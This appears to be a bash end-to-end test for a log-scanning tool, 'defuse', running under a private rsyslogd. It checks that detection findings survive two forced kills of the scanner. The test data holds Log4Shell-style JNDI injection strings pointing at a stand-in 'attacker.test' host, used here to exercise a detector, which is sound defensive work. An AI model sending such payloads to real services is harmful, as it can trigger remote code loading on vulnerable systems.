#!/usr/bin/env bash
# logs_pipeline.sh -- the live pipeline with the real daemon and the shipped
# configuration (etc/rsyslog-defuse.conf.example): a private
# rsyslogd (its own config, pid file and work directory; a loopback imtcp
# input, nothing of the system's touched) passes every line through
# `defuse logs --omprog` (omprog, confirmMessages="on"), which sends its
# findings as RFC 5424 over TCP to a loopback collector.  defuse is killed
# (SIGKILL) twice mid-stream; rsyslog restarts it and re-sends what was not
# confirmed.  Every payload line sent must give a finding at the collector:
# none missing; a duplicate is allowed only for the message being processed
# at a kill (its finding went out, its OK did not), at most one per kill.
source "$(dirname "$0")/logs_lib.bash"
: "${DEFUSE_SRC:?DEFUSE_SRC must name the source tree}"
RSYSLOGD=${RSYSLOGD:-$(command -v rsyslogd || echo /usr/sbin/rsyslogd)}
[ -x "$RSYSLOGD" ] || { echo "SKIP: rsyslogd not installed (Debian package rsyslog; scripts/deps.sh)"; exit 77; }
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
PEERS="python3 $DEFUSE_SRC/tests/e2e/honeypot/peers.py"
DEFUSE=$(readlink -f "$DEFUSE")

$PEERS syslog-tcp "$T/col.port" "$T/collector.out" & PIDS+=($!)
for i in $(seq 1 100); do [ -s "$T/col.port" ] && break; sleep 0.05; done
read -r IN < <($PEERS freeports 1)
mkdir -p "$T/work"
# The configuration is the shipped example (etc/rsyslog-defuse.conf.example)
# with this build's defuse, the loopback collector, files under $T and a
# 1 s resume interval; a loopback imtcp input is bound to its ruleset.
python3 - "$DEFUSE_SRC/etc/rsyslog-defuse.conf.example" "$T" "$DEFUSE" "$(cat "$T/col.port")" "$IN" \
    >"$T/rsyslog.conf" <<'PY' || { fail "the shipped example changed: adapt this test"; finish; }
import sys
src, t, defuse, col, port = sys.argv[1:]
conf = open(src).read()
for old, new in (
    ("/usr/bin/defuse logs", defuse + " logs"),
    ("--syslog=tcp://siem.example:514 --webhook=https://hooks.example/defuse",
     "--syslog=tcp://127.0.0.1:" + col),
    ("/var/log/defuse-omprog.log", t + "/omprog.err"),
    ('action.resumeInterval="5"', 'action.resumeInterval="1"'),
):
    if conf.count(old) != 1:
        sys.exit("not once in the example: " + old)
    conf = conf.replace(old, new)
print('global(workDirectory="%s/work" maxMessageSize="64k")' % t)
print('module(load="imtcp")')
print(conf)
print('input(type="imtcp" address="127.0.0.1" port="%s" ruleset="defuse_scan")' % port)
print('*.* action(type="omfile" file="%s/rsyslog-internal.log")' % t)
PY
"$RSYSLOGD" -N1 -f "$T/rsyslog.conf" -i "$T/rsyslog-check.pid" >"$T/check.out" 2>&1 &&
    ok "rsyslogd -N1 accepts the shipped example" || { cat "$T/check.out" >&2; fail "rsyslogd -N1 refuses the configuration"; finish; }
"$RSYSLOGD" -n -f "$T/rsyslog.conf" -i "$T/rsyslog.pid" >"$T/rsyslogd.out" 2>&1 &
RS=$!
PIDS+=($RS)
for i in $(seq 1 100); do
    python3 -c "import socket,sys; socket.create_connection(('127.0.0.1', $IN), 0.2)" 2>/dev/null && break
    kill -0 $RS 2>/dev/null || { cat "$T/rsyslogd.out" >&2; fail "rsyslogd did not start"; finish; }
    sleep 0.1
done

# the lines are sent at a steady pace (about 1000 a second) from the
# background, so that the kills fall in the middle of the stream
N=1500
python3 - "$IN" "$N" >"$T/sender.out" 2>&1 <<'PY' &
import socket, sys, time
port, n = int(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(("127.0.0.1", port))
for i in range(n):
    s.sendall(b'<14>Dec 10 13:00:00 web app: 10.1.%d.%d - - "GET /?q=${jndi:ldap://p%d.attacker.test/x} HTTP/1.1" 200 1\n' % (i // 250, i % 250, i))
    s.sendall(b'<14>Dec 10 13:00:00 web app: 10.1.0.1 - - "GET /index.html?x=%d HTTP/1.1" 200 1\n' % i)
    if i % 10 == 9:
        time.sleep(0.02)
s.close()
print("sent")
PY
SENDER=$!
PIDS+=($SENDER)

count() { grep -c 'attacker' "$T/collector.out" 2>/dev/null || true; }
# wait_count N: until N findings are at the collector, or 20 s without a new
# one (rsyslog restarts defuse within about a second; a loaded machine is slower)
wait_count() {
    local last=-1 idle=0 c
    while :; do
        c=$(count); c=${c:-0}
        [ "$c" -ge "$1" ] && return 0
        if [ "$c" -eq "$last" ]; then idle=$((idle + 1)); else idle=0; last=$c; fi
        [ "$idle" -ge 400 ] && return 1
        sleep 0.05
    done
}
child() { pgrep -P "$RS" -f 'logs --omprog' | head -1; }
KILLS=0
at=$((N / 4))
for k in 1 2; do
    wait_count "$at" || { echo "no new finding for 20 s at $(count) findings (defuse pid: $(child))" >&2; break; }
    c=$(child)
    if [ -n "$c" ] && [ "$(count)" -lt "$N" ]; then
        kill -KILL "$c" && KILLS=$((KILLS + 1))
        echo "killed defuse (pid $c) after $(count) findings at the collector"
    fi
    # the restarted instance (rsyslog retries after action.resumeInterval),
    # killed again once it has delivered a few findings
    for i in $(seq 1 100); do n=$(child); [ -n "$n" ] && [ "$n" != "$c" ] && break; sleep 0.05; done
    at=$(($(count) + 20))
done
wait "$SENDER"; grep -q sent "$T/sender.out" || fail "sending to rsyslog: $(cat "$T/sender.out")"
wait_count "$N"
sleep 1 # late duplicates, if any
[ "$KILLS" -eq 2 ] && ok "defuse killed twice mid-stream" || fail "defuse killed $KILLS times (the stream ended first?)"
if python3 - "$T/collector.out" "$N" "$KILLS" <<'PY'; then ok "every payload line gave its finding after the restarts"; else fail "findings at the collector"; fi
import collections, json, re, sys
out, n, kills = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
open(out, "a").close()
seen = collections.Counter()
for line in open(out, encoding="utf-8", errors="replace"):
    m = re.match(r'^<132>1 \S+ \S+ defuse-logs \d+ finding - (\{.*\})$', line.rstrip("\n"))
    assert m, "not an RFC 5424 finding: " + line[:200]
    ev = json.loads(m.group(1))
    assert ev["kind"] == "jndi", ev
    seen[ev["host"]] += 1
want = {"p%d.attacker.test" % i for i in range(n)}
missing = want - set(seen)
extra = set(seen) - want
dups = sum(c - 1 for c in seen.values() if c > 1)
print("payload lines sent: %d; findings at the collector: %d (distinct %d, missing %d, duplicates %d); kills: %d"
      % (n, sum(seen.values()), len(seen), len(missing), dups, kills))
assert not missing, sorted(missing)[:10]
assert not extra, sorted(extra)[:10]
assert dups <= kills, "more duplicates than kills"
PY
if grep -qF '${' "$T/collector.out"; then fail "a live \${ reached the collector"; fi
kill -TERM "$RS"
for i in $(seq 1 100); do kill -0 "$RS" 2>/dev/null || break; sleep 0.1; done
kill -0 "$RS" 2>/dev/null && fail "rsyslogd did not stop on SIGTERM" || ok "rsyslogd stopped; defuse saw end of input"
if [ -n "$(pgrep -f "logs --omprog --syslog=tcp://127.0.0.1:$(cat "$T/col.port")" || true)" ]; then
    fail "a defuse --omprog process outlived rsyslogd"
fi
if [ "$FAILS" -ne 0 ]; then
    for f in rsyslogd.out rsyslog-internal.log omprog.err; do
        echo "--- $f" >&2; tail -15 "$T/$f" >&2 2>/dev/null || true
    done
fi
finish
